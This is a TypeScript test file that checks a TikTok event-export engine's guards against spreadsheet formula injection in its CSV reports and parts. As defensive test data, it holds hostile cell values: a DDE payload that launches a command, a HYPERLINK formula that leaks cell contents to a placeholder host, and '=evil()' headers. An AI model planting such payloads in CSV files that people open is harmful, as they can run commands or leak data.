/** No file that a person may open in a spreadsheet runs anything; TikTok's parts keep every value as it stands. */
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import { guardedCsvLine } from '../../main/engine/delivery/csv-line.ts';
import { openEngine } from '../../main/engine/engine.ts';
import { refusedLine } from '../../main/engine/receipt/refused-csv.ts';
import { tempFolder } from '../helpers/folders.ts';

const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const PAYLOADS = ["cmd|' /C calc'!A0", '1+1', 'HYPERLINK("http://x/?"&A1,"a")', 'SUM(A1:A9)', '"', ''];
const BEFORE = ['', "'", "''", 'a;', 'a; ', 'x\n', 'x\r\n', 'a;"', "a;'", '"";'];
const CORPUS = BEFORE.flatMap((before) => SIGNS.flatMap((sign) => PAYLOADS.map((payload) => `${before}${sign}${payload}`)));
/** What a spreadsheet runs when a cell begins so. */
const RUNS = /^[=+\-@＝＋－＠\t\r\n]/;

/** RFC 4180 by hand; where cells are parted by another sign, quotes inside of a cell are plain text, as a spreadsheet takes them. */
function cellsOf(text: string, delimiter: ',' | ';'): string[][] {
  const rows: string[][] = [[]];
  let [cell, isQuoted] = ['', false];
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at);
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text.charAt(at + 1) === '"') [cell, at] = [`${cell}"`, at + 1];
      else isQuoted = false;
    } else if (sign === '"' && cell === '') isQuoted = true;
    else if (sign === delimiter || sign === '\n' || (sign === '\r' && delimiter === ';')) {
      rows.at(-1)?.push(cell);
      cell = '';
      if (sign !== delimiter) rows.push([]);
    } else cell += sign;
  }
  return rows.slice(0, -1);
}

/** As the README says it: one apostrophe less before each sign of a formula. */
function withoutGuard(value: string): string {
  return value.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '').replace(/([;\r\n][" ]*)'(?='*[=+\-@\t＝＋－＠])/g, '$1');
}

function harmless(text: string): void {
  for (const delimiter of [',', ';'] as const) {
    const cells = cellsOf(text, delimiter).flat();
    // A row number may follow a line's end as it stands; nothing else that a report says begins with a sign.
    expect(cells.filter((cell) => RUNS.test(cell.replace(/^[" ]+/, '')))).toEqual([]);
  }
}

test('a guarded line runs nothing, whichever sign parts its cells, and gives its values back', () => {
  for (const value of CORPUS) {
    const line = guardedCsvLine(['7', value, 'end']);
    harmless(line);
    expect(cellsOf(line, ',')).toEqual([['7', expect.any(String), 'end']]);
    expect(withoutGuard(cellsOf(line, ',')[0]?.[1] ?? '')).toBe(value);
  }
});

test('refused.csv guards what TikTok answered and what the file is called', () => {
  for (const value of CORPUS) harmless(refusedLine({ row: 2, line: 2, file: value, eventId: value, code: 1, reason: value, requestId: value, seq: 1 }));
});

const quoted = (value: string): string => `"${value.replaceAll('"', '""')}"`;

test('every report of an export is harmless, and the parts hold the values unchanged with a warning', async () => {
  const folder = tempFolder();
  const [out, source] = [path.join(folder, 'out'), path.join(folder, '=1+1;=2.csv')];
  const header = ['Email', 'Paid at', 'What', 'Order No', 'Status', 'Product', '=evil()', 'x;=evil()'];
  const good = (order: string, product: string): string[] => [`a${order}@post.example`, '2026-11-20T10:00:00Z', 'Purchase', order, 'Paid', product, product, product];
  const values = CORPUS.filter((value) => !/[\t\r\n]/.test(value));
  const rows = [
    ...values.map((value, at) => good(`${1000 + at}`, value)),
    ...values.map((value, at) => [value, '', 'Purchase', `${5000 + at}`, 'Paid', value, value, value]),
    ...values.map((value, at) => good(`${7000 + at}`, value).with(4, 'Cancelled')),
    good('1000', values[0] ?? ''),
  ];
  writeFileSync(source, [header, ...rows].map((row) => `${row.map(quoted).join(',')}\n`).join(''));
  mkdirSync(out);
  const engine = openEngine({ workspace: path.join(folder, 'workspace') });
  const maps = [['email', 'Email'], ['timestamp', 'Paid at'], ['event_type', 'What'], ['order_id', 'Order No'], ['product_id', 'Product']] as const;
  const { jobId } = await engine.importSource({ sources: [source], recipe: null, overrides: { maps: maps.map(([field, column]) => ({ field, column })) }, take: 'certain' });
  const { counts } = await engine.prepareJob({ jobId, now: '2026-11-22T00:00:00Z' });
  await engine.exportJob({ jobId, outDir: out, includeValues: true, writeParts: true });
  engine.close();
  expect(counts).toMatchObject({ rowsRead: rows.length, rejected: values.length, filtered: values.length, duplicates: 1 });
  const reports = readdirSync(out).filter((name) => name.endsWith('.csv') && !name.startsWith('tiktok-events'));
  expect(reports).toEqual(['duplicates.csv', 'filtered.csv', 'rejected.csv']);
  for (const name of reports) harmless(readFileSync(path.join(out, name), 'utf8'));
  const rejected = cellsOf(readFileSync(path.join(out, 'rejected.csv'), 'utf8'), ',');
  expect(rejected[0]?.slice(5).map(withoutGuard)).toEqual(header);
  expect(rejected.slice(1).map((cells) => withoutGuard(cells[10] ?? ''))).toEqual(values);
  const parts = cellsOf(readFileSync(path.join(out, 'tiktok-events-001.csv'), 'utf8'), ',');
  const sent = parts.slice(1).map((cells) => cells[9]);
  // A value that holds a contact, or only stands for nothing, is left out; whatever goes out is as it was.
  expect(sent.filter((value) => value !== '')).toEqual(values.filter((_, at) => sent[at] !== ''));
  expect(sent.filter((value) => value !== '').length).toBeGreaterThan(values.length / 2);
  const warned = values.filter((value, at) => sent[at] !== '' && RUNS.test(value)).length;
  expect(counts?.issues.find(({ code }) => code === 'formula-like')?.rows).toBeGreaterThanOrEqual(warned);
});
